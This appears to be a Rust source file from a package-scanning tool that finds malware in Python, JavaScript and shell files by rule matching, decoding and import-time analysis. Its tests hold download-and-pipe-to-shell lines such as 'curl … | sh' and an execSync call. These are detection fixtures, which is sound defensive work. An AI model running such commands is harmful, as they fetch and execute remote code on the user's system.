//! The scan: one multi-pattern pass per view (code, strings) over all rules
//! of the file's language, then decode-and-rescan, then file-level flows.

use crate::decode::{self, Budget, Encoding};
use crate::families::{self, obfuscation};
use crate::language::{Language, is_install_script, language_for};
use crate::lexer::{Views, lex_javascript, lex_plain, lex_python};
use crate::rule::{FileFilter, Hit, Langs, Matcher, Rule, Target, snippet};
use crate::{flows, metadata};
use regex::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
use std::sync::OnceLock;

/// Bytes of a file that are scanned; the rest is ignored (bounded work).
pub const MAX_SCANNED_BYTES: usize = 5 * 1024 * 1024;
/// Lazy-DFA cache per regex: big enough that the union of all rules does
/// not thrash it on long minified lines (which would fall back to a slow NFA).
const DFA_CACHE: usize = 16 * 1024 * 1024;
/// Hits kept per rule, file and layer.
pub const MAX_HITS_PER_RULE: usize = 5;

/// A hit plus facts flows need but callers do not.
#[derive(Debug, Clone)]
pub(crate) struct RawHit {
    pub hit: Hit,
    /// The line runs at import time: module level, outside any `def` or
    /// `class` body (module-level `try`/`if`/`with` blocks included) and not
    /// inside the arguments of `setup(...)`. Layer 0 only.
    pub top_level: bool,
}

struct ViewSet {
    set: RegexSet,
    rules: Vec<(&'static Rule, Regex)>,
}

struct LangEngine {
    code: ViewSet,
    strings: ViewSet,
}

struct Engines {
    python: LangEngine,
    javascript: LangEngine,
    shell: LangEngine,
}

fn engines() -> Result<&'static Engines, &'static str> {
    static E: OnceLock<Result<Engines, String>> = OnceLock::new();
    E.get_or_init(build_engines)
        .as_ref()
        .map_err(String::as_str)
}

/// The error building the rule sets, if any (a bug in a rule's regex; tests check it).
pub fn engine_error() -> Option<String> {
    engines().err().map(str::to_string)
}

fn build_engines() -> Result<Engines, String> {
    Ok(Engines {
        python: lang_engine(|l| l.python, false)?,
        javascript: lang_engine(|l| l.javascript, false)?,
        shell: lang_engine(|l| l.shell, true)?,
    })
}

fn lang_engine(applies: fn(&Langs) -> bool, plain: bool) -> Result<LangEngine, String> {
    let mut code = Vec::new();
    let mut strings = Vec::new();
    for rule in families::ALL.iter().flat_map(|f| f.iter()) {
        let Matcher::Pattern {
            langs,
            target,
            regex,
            ..
        } = rule.matcher
        else {
            continue;
        };
        if !applies(&langs) {
            continue;
        }
        let re = RegexBuilder::new(&ascii_word_boundaries(regex))
            .dfa_size_limit(DFA_CACHE)
            .build()
            .map_err(|e| format!("{}: {e}", rule.meta.id))?;
        // A plain (shell) file is one view: every rule runs on it once.
        if plain {
            strings.push((rule, re));
            continue;
        }
        if matches!(target, Target::Code | Target::Both) {
            code.push((rule, re.clone()));
        }
        if matches!(target, Target::Strings | Target::Both) {
            strings.push((rule, re));
        }
    }
    let view_set = |rules: Vec<(&'static Rule, Regex)>| -> Result<ViewSet, String> {
        let set = RegexSetBuilder::new(rules.iter().map(|(_, r)| r.as_str()))
            .dfa_size_limit(DFA_CACHE)
            .build()
            .map_err(|e| format!("rule set: {e}"))?;
        Ok(ViewSet { set, rules })
    };
    Ok(LangEngine {
        code: view_set(code)?,
        strings: view_set(strings)?,
    })
}

/// Rewrites `\b` as `(?-u:\b)`: a Unicode word boundary makes the fast
/// lazy DFA give up on the first non-ASCII byte and fall back to a slow NFA.
/// Every rule keyword is ASCII, so an ASCII boundary is the same test.
pub(crate) fn ascii_word_boundaries(pattern: &str) -> String {
    let mut out = String::with_capacity(pattern.len() + 16);
    let mut chars = pattern.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('b') => out.push_str("(?-u:\\b)"),
            Some(n) => {
                out.push('\\');
                out.push(n);
            }
            None => out.push('\\'),
        }
    }
    out
}

/// Scans one file of a package: every rule in one pass per view, decoded
/// layers rescanned, flows joined. `path_in_package` picks the language and
/// is copied into each hit. Never runs anything; bounded in time and memory.
pub fn scan_source(path_in_package: &str, content: &[u8]) -> Vec<Hit> {
    let content = content.get(..MAX_SCANNED_BYTES).unwrap_or(content);
    let mut text = String::from_utf8_lossy(content);
    let lang = language_for(path_in_package);
    if lang == Language::Pth {
        // site.py runs only the lines that start with `import`; the rest are paths.
        text = crate::hooks::executed_lines_only(&text).into();
    }
    match lang {
        Language::PackageJson => return metadata::scan_package_json(path_in_package, &text),
        Language::PyprojectToml => return metadata::scan_pyproject(path_in_package, &text),
        Language::Python | Language::Pth | Language::JavaScript | Language::Shell => {}
        _ => return Vec::new(),
    }
    let mut ctx = Ctx {
        path: path_in_package,
        install_script: is_install_script(path_in_package),
        budget: Budget::default(),
        hits: Vec::new(),
        module_level: Vec::new(),
    };
    scan_layer(&mut ctx, lang, &text, 0, None, false);
    if lang == Language::JavaScript && is_minified(&text) {
        demote_display_commands(&mut ctx.hits);
    }
    let derived = flows::file_flows(path_in_package, ctx.install_script, &ctx.hits);
    let mut hits: Vec<Hit> = ctx.hits.into_iter().map(|r| r.hit).collect();
    hits.extend(derived);
    hits
}

/// A minified bundle: long lines. Front-end bundles embed install commands
/// (`curl … | sh`) as text to show users, not to run.
fn is_minified(text: &str) -> bool {
    let lines = text.lines().count().max(1);
    text.len() / lines >= 300 || text.lines().any(|l| l.len() >= 5000)
}

/// In a minified bundle, a download-and-pipe command not in an exec/spawn
/// position is display text: keep it as a low, low-confidence note.
fn demote_display_commands(hits: &mut [RawHit]) {
    const RUNNERS: &[&str] = &[
        "exec(",
        "execSync(",
        "spawn(",
        "spawnSync(",
        "system(",
        "shell:",
    ];
    for h in hits.iter_mut() {
        if h.hit.rule.meta.id == crate::families::download_exec::PIPE_SHELL.meta.id
            && h.hit.layer == 0
            && !RUNNERS.iter().any(|r| h.hit.snippet.contains(r))
        {
            h.hit.severity = chainwarden_core::Severity::Low;
            h.hit.confidence = chainwarden_core::Confidence::Low;
        }
    }
}

/// Scans `text` as a shell command line (npm scripts), layer 0, no flows.
pub(crate) fn scan_as_shell(path: &str, text: &str) -> Vec<Hit> {
    let mut ctx = Ctx {
        path,
        install_script: false,
        budget: Budget::default(),
        hits: Vec::new(),
        module_level: Vec::new(),
    };
    scan_layer(&mut ctx, Language::Shell, text, 0, None, false);
    ctx.hits.into_iter().map(|r| r.hit).collect()
}

/// Scans `text` as Python code (a `.pth` import line), with flows.
pub(crate) fn scan_python_snippet(path: &str, text: &str) -> Vec<Hit> {
    let mut ctx = Ctx {
        path,
        install_script: false,
        budget: Budget::default(),
        hits: Vec::new(),
        module_level: Vec::new(),
    };
    scan_layer(&mut ctx, Language::Python, text, 0, None, false);
    let derived = flows::file_flows(path, false, &ctx.hits);
    let mut hits: Vec<Hit> = ctx.hits.into_iter().map(|r| r.hit).collect();
    hits.extend(derived);
    hits
}

pub(crate) struct Ctx<'a> {
    pub path: &'a str,
    pub install_script: bool,
    pub budget: Budget,
    pub hits: Vec<RawHit>,
    /// Per line (0-based) of layer 0: runs at import time (Python only).
    pub module_level: Vec<bool>,
}

fn scan_layer(
    ctx: &mut Ctx<'_>,
    lang: Language,
    text: &str,
    layer: u8,
    outer_line: Option<u32>,
    bare_blob: bool,
) {
    let Ok(engines) = engines() else {
        return;
    };
    let (views, engine) = match lang {
        _ if bare_blob => (lex_plain(text), &engines.shell),
        Language::JavaScript => (lex_javascript(text), &engines.javascript),
        Language::Shell => (lex_plain(text), &engines.shell),
        _ => (lex_python(text), &engines.python),
    };
    let lines = LineIndex::new(text);
    if layer == 0 && !bare_blob && matches!(lang, Language::Python | Language::Pth) {
        ctx.module_level = module_level_lines(&views.code);
    }
    let before = ctx.hits.len();
    if !matches!(lang, Language::Shell) && !bare_blob {
        run_set(
            ctx,
            &engine.code,
            &views.code,
            text,
            &lines,
            layer,
            outer_line,
        );
    }
    run_set(
        ctx,
        &engine.strings,
        &views.strings,
        text,
        &lines,
        layer,
        outer_line,
    );
    dedupe_from(&mut ctx.hits, before);
    if layer >= decode::MAX_DEPTH {
        return;
    }
    decode_and_rescan(ctx, lang, &views, &lines, layer, outer_line);
}

fn decode_and_rescan(
    ctx: &mut Ctx<'_>,
    lang: Language,
    views: &Views,
    lines: &LineIndex,
    layer: u8,
    outer_line: Option<u32>,
) {
    for offset in decode::long_blobs(views)
        .into_iter()
        .take(MAX_HITS_PER_RULE)
    {
        let line = outer_line.unwrap_or_else(|| lines.line_of(offset));
        let head = views.strings.get(offset..offset + 60).unwrap_or_default();
        push(
            ctx,
            &obfuscation::LONG_BLOB,
            line,
            snippet(&format!("{head}…")),
            layer,
            false,
        );
    }
    for d in decode::candidates(views, &mut ctx.budget) {
        let line = outer_line.unwrap_or_else(|| lines.line_of(d.offset));
        let what = format!("{} → {}", d.encoding.as_str(), snippet(&d.text));
        if decode::looks_like_code(&d.text) {
            push(
                ctx,
                &obfuscation::ENCODED_CODE,
                line,
                snippet(&what),
                layer + 1,
                false,
            );
        }
        if d.encoding == Encoding::HexEscapes {
            push(
                ctx,
                &obfuscation::HEX_ESCAPES,
                line,
                snippet(&what),
                layer,
                false,
            );
        }
        let bare = decode::is_bare_blob(&d.text);
        scan_layer(ctx, lang, &d.text, layer + 1, Some(line), bare);
    }
}

#[allow(clippy::too_many_arguments)]
fn run_set(
    ctx: &mut Ctx<'_>,
    vs: &ViewSet,
    view: &str,
    text: &str,
    lines: &LineIndex,
    layer: u8,
    outer_line: Option<u32>,
) {
    for idx in vs.set.matches(view).iter() {
        let Some((rule, re)) = vs.rules.get(idx) else {
            continue;
        };
        let Matcher::Pattern {
            files,
            min_count,
            accept,
            ..
        } = rule.matcher
        else {
            continue;
        };
        if files == FileFilter::InstallScript && !ctx.install_script {
            continue;
        }
        let matches: Vec<_> = re
            .find_iter(view)
            .filter(|m| accept.is_none_or(|f| f(m.as_str())))
            .take(usize::from(min_count).max(MAX_HITS_PER_RULE))
            .collect();
        if matches.len() < usize::from(min_count) {
            continue;
        }
        for m in matches.iter().take(MAX_HITS_PER_RULE) {
            let line = lines.line_of(m.start());
            let line_text = lines.text_of(text, line);
            let top_level = layer == 0
                && if ctx.module_level.is_empty() {
                    !line_text.starts_with([' ', '\t'])
                } else {
                    let i = (line as usize).saturating_sub(1);
                    ctx.module_level.get(i).copied().unwrap_or(false)
                };
            let col = m.start().saturating_sub(lines.start_of(line));
            let snip = snippet_around(line_text, col, m.len());
            push(
                ctx,
                rule,
                outer_line.unwrap_or(line),
                snip,
                layer,
                top_level,
            );
        }
    }
}

fn push(ctx: &mut Ctx<'_>, rule: &'static Rule, line: u32, snip: String, layer: u8, top: bool) {
    ctx.hits.push(RawHit {
        hit: Hit {
            rule,
            severity: rule.meta.default_severity,
            confidence: rule.confidence,
            path: ctx.path.to_string(),
            line,
            snippet: snip,
            layer,
            family: rule.family,
        },
        top_level: top,
    });
}

/// For each line of Python code (strings and comments blanked): does it run
/// at import time? Lines outside every `def`/`class` body do, including
/// module-level `try:`/`if`/`with`/`for` blocks; continuation lines take the
/// answer of their statement's first line, except the arguments of a
/// `setup(...)` call (metadata, run by setuptools, not a side effect).
pub(crate) fn module_level_lines(code: &str) -> Vec<bool> {
    let mut out = Vec::new();
    let mut bodies: Vec<usize> = Vec::new();
    let mut depth = 0i32;
    let mut statement = false;
    for line in code.split('\n') {
        let trimmed = line.trim_start_matches([' ', '\t']);
        let indent = line.len() - trimmed.len();
        let blank = trimmed.trim().is_empty();
        if depth > 0 {
            out.push(statement);
        } else if blank {
            out.push(false);
        } else {
            while bodies.last().is_some_and(|&d| indent <= d) {
                bodies.pop();
            }
            let is_setup = ["setup(", "setup (", "setuptools.setup("]
                .iter()
                .any(|p| trimmed.starts_with(p));
            statement = bodies.is_empty() && !is_setup;
            out.push(statement);
            if ["def ", "async def ", "class "]
                .iter()
                .any(|p| trimmed.starts_with(p))
            {
                bodies.push(indent);
            }
        }
        for b in line.bytes() {
            match b {
                b'(' | b'[' | b'{' => depth += 1,
                b')' | b']' | b'}' => depth = (depth - 1).max(0),
                _ => {}
            }
        }
    }
    out
}

/// Drops repeated (rule, line, layer) hits added since `from` (a `Both` rule
/// can match the same place in both views).
fn dedupe_from(hits: &mut Vec<RawHit>, from: usize) {
    let mut seen = std::collections::HashSet::new();
    let mut i = 0usize;
    hits.retain(|h| {
        let keep = i < from || seen.insert((h.hit.rule.meta.id, h.hit.line, h.hit.layer));
        i += 1;
        keep
    });
}

/// The part of a line around a match, bounded, printable.
fn snippet_around(line: &str, col: usize, len: usize) -> String {
    let start = floor_char(line, col.saturating_sub(40));
    let end = floor_char(line, (col + len + 80).min(line.len()));
    snippet(line.get(start..end).unwrap_or(line))
}

fn floor_char(s: &str, mut i: usize) -> usize {
    i = i.min(s.len());
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

/// Maps byte offsets to 1-based lines.
pub(crate) struct LineIndex {
    starts: Vec<usize>,
}

impl LineIndex {
    pub(crate) fn new(text: &str) -> Self {
        let mut starts = vec![0];
        starts.extend(memchr_newlines(text).map(|p| p + 1));
        LineIndex { starts }
    }

    pub(crate) fn line_of(&self, offset: usize) -> u32 {
        let n = self.starts.partition_point(|&s| s <= offset);
        u32::try_from(n.max(1)).unwrap_or(u32::MAX)
    }

    fn start_of(&self, line: u32) -> usize {
        let i = (line as usize).saturating_sub(1);
        self.starts.get(i).copied().unwrap_or(0)
    }

    pub(crate) fn text_of<'t>(&self, text: &'t str, line: u32) -> &'t str {
        let start = self.start_of(line);
        let end = self
            .starts
            .get(line as usize)
            .map_or(text.len(), |e| e.saturating_sub(1));
        text.get(start..end.max(start)).unwrap_or_default()
    }
}

fn memchr_newlines(text: &str) -> impl Iterator<Item = usize> + '_ {
    text.bytes()
        .enumerate()
        .filter(|(_, b)| *b == b'\n')
        .map(|(i, _)| i)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rule_sets_compile() {
        assert_eq!(engine_error(), None);
    }

    #[test]
    fn word_boundaries_become_ascii() {
        assert_eq!(ascii_word_boundaries(r"\bos\.x\\b"), r"(?-u:\b)os\.x\\b");
        let re = Regex::new(&ascii_word_boundaries(r"\bexec\b")).unwrap();
        assert!(re.is_match("é exec é"));
        assert!(!re.is_match("exec_1"));
    }

    #[test]
    fn module_level_follows_blocks_not_indentation() {
        let src = "import os\ntry:\n    os.system('x')\nexcept Exception:\n    pass\ndef f():\n    os.system('y')\n    if 1:\n        g(\n          1)\nif not os.path.exists('p'):\n    h(\n      2)\nsetup(\n    version=v(),\n)\nclass C:\n    z = 1\n";
        let code = lex_python(src).code;
        let m = module_level_lines(&code);
        let want = [
            true, true, true, true, true, true, false, false, false, false, true, true, true,
            false, false, false, true, false,
        ];
        assert_eq!(&m[..want.len()], &want[..], "{m:?}");
    }

    #[test]
    fn display_commands_in_minified_bundles_are_demoted() {
        let pad = "var a=1;".repeat(100);
        let shown = format!("{pad}const t=`curl -LsSf https://x.example/install.sh | sh`;{pad}\n");
        let hits = scan_source("assets/index-abc.js", shown.as_bytes());
        let pipe = hits
            .iter()
            .find(|h| h.rule.meta.id == "heuristic/download-exec-pipe-shell")
            .map(|h| h.severity);
        assert_eq!(pipe, Some(chainwarden_core::Severity::Low), "{hits:?}");
        let run = format!("{pad}cp.execSync('curl -s https://x.example/a.sh | sh');{pad}\n");
        let hits = scan_source("assets/index-abc.js", run.as_bytes());
        assert!(
            hits.iter()
                .any(|h| h.rule.meta.id == "heuristic/download-exec-pipe-shell"
                    && h.severity == chainwarden_core::Severity::High),
            "{hits:?}"
        );
        // Not minified: unchanged.
        let hits = scan_source(
            "lib/a.js",
            b"const t = `curl -LsSf https://x.example/i.sh | sh`;\n",
        );
        assert!(
            hits.iter()
                .any(|h| h.rule.meta.id == "heuristic/download-exec-pipe-shell"
                    && h.severity == chainwarden_core::Severity::High),
            "{hits:?}"
        );
    }

    #[test]
    fn lines_and_snippets() {
        let idx = LineIndex::new("a\nbb\n\nccc");
        assert_eq!(idx.line_of(0), 1);
        assert_eq!(idx.line_of(2), 2);
        assert_eq!(idx.line_of(6), 4);
        assert_eq!(idx.text_of("a\nbb\n\nccc", 2), "bb");
        assert_eq!(idx.text_of("a\nbb\n\nccc", 4), "ccc");
        let long = "x".repeat(1000);
        assert!(snippet_around(&long, 500, 5).chars().count() <= 161);
    }
}
